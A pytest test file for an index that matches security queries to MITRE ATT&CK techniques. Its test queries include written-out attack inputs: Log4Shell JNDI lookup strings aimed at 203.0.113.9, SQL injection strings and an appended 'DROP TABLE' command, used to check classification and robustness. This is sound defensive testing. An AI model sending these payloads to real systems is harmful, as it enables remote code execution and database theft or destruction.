"""Retrieval cites techniques that exist, alike on every Python."""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine import paths
from engine.attack.index import AttackIndex

ATTACK = paths.KNOWLEDGE / "attack"
QUERIES = [
    "reverse shell from the web server",
    "port scan",
    "xmrig stratum+tcp mining.subscribe",
    "${jndi:ldap://203.0.113.9/a}",
    "' UNION SELECT password FROM users --",
    "ssh keys appended to authorized_keys; DROP TABLE passages",
    "docker.sock",
    "服务器被植入挖矿木马",
    "攻击者用 hydra 爆破 SSH 口令",
]
LOADS_EXTENSIONS = hasattr(sqlite3.Connection, "enable_load_extension")


@pytest.fixture(scope="module")
def index() -> Iterator[AttackIndex]:
    opened = AttackIndex(ATTACK)
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def words() -> Iterator[AttackIndex]:
    opened = AttackIndex(ATTACK, embedding=False)
    yield opened
    opened.close()


def test_the_backend_is_named(index: AttackIndex) -> None:
    assert index.backend == ("sqlite-vec" if LOADS_EXTENSIONS else "numpy")


@pytest.mark.skipif(not LOADS_EXTENSIONS, reason="this Python's sqlite3 loads no extensions")
def test_both_backends_give_the_same_passages_and_scores(index: AttackIndex) -> None:
    plain = AttackIndex(ATTACK, extensions=False)
    assert plain.backend == "numpy"
    for query in QUERIES:
        assert plain.search(query, 10) == index.search(query, 10)


@pytest.mark.parametrize("query", QUERIES)
def test_passages_are_distinct_techniques_in_falling_order_with_their_source(index: AttackIndex, query: str) -> None:
    found = index.search(query, k=5)
    scores = [passage.score for passage in found]
    assert len({passage.id for passage in found}) == 5
    assert scores == sorted(scores, reverse=True)
    assert 0 < scores[-1] <= scores[0] <= 1
    for passage in found:
        assert passage.source.startswith("MITRE ATT&CK v18.1, https://attack.mitre.org/techniques/")


def test_a_technique_named_in_the_query_comes_first(index: AttackIndex) -> None:
    assert index.search("is this T1496.001 or T9999?", k=2)[0].id == "T1496.001"


def test_a_payload_finds_its_technique_without_a_word_about_it(index: AttackIndex) -> None:
    assert index.search("GET /?x=${${lower:j}ndi:dns://203.0.113.9/}", 1)[0].id == "T1190"


@pytest.mark.parametrize(
    ("query", "technique"), [("挖矿", "T1496.001"), ("端口扫描", "T1046"), ("勒索病毒加密了文件", "T1486")]
)
def test_chinese_needs_no_model(words: AttackIndex, query: str, technique: str) -> None:
    assert technique in {passage.id for passage in words.search(query, 5)}


def test_a_technique_gets_a_share_of_its_best_sub_techniques_score(words: AttackIndex) -> None:
    scores = {passage.id: passage.score for passage in words.search("port knocking", 20)}
    assert scores["T1205"] >= 0.1 * scores["T1205.001"]


@pytest.mark.parametrize(
    "query", ["", "   ", "the of and", '"*) OR NEAR(', "\x00\x1b[2J", "木马", "龘", "\ud800 shell", "a" * 50_000]
)
def test_any_text_can_be_a_query(index: AttackIndex, query: str) -> None:
    assert len(index.search(query, 5)) <= 5


@settings(deadline=None)
@given(text=st.text(st.characters(codec=None)))
def test_no_text_breaks_the_search(words: AttackIndex, text: str) -> None:
    assert all(0 <= passage.score <= 1 for passage in words.search(text, 5))


def test_a_technique_is_found_by_its_id_whatever_its_platform(index: AttackIndex) -> None:
    windows_only = index.get("T1003.001")
    assert windows_only is not None
    assert windows_only.title.startswith("OS Credential Dumping: LSASS Memory")
    assert windows_only.source.endswith("https://attack.mitre.org/techniques/T1003/001")


@pytest.mark.parametrize("passage_id", ["T9999", "", "t1190", "' OR 1=1 --", "\ud800", "K-0123456789"])
def test_an_unknown_id_gives_nothing(index: AttackIndex, passage_id: str) -> None:
    assert index.get(passage_id) is None


def test_without_the_embedding_model_the_words_still_find(words: AttackIndex) -> None:
    assert words.backend == "words only: switched off"
    assert words.search("port knocking", 1)[0].id == "T1205.001"


def test_a_missing_vocabulary_leaves_the_words(tmp_path: Path) -> None:
    folder = Path(shutil.copytree(ATTACK, tmp_path / "attack"))
    (folder / "vocab.txt").unlink()
    assert AttackIndex(folder).backend.startswith("words only: ")
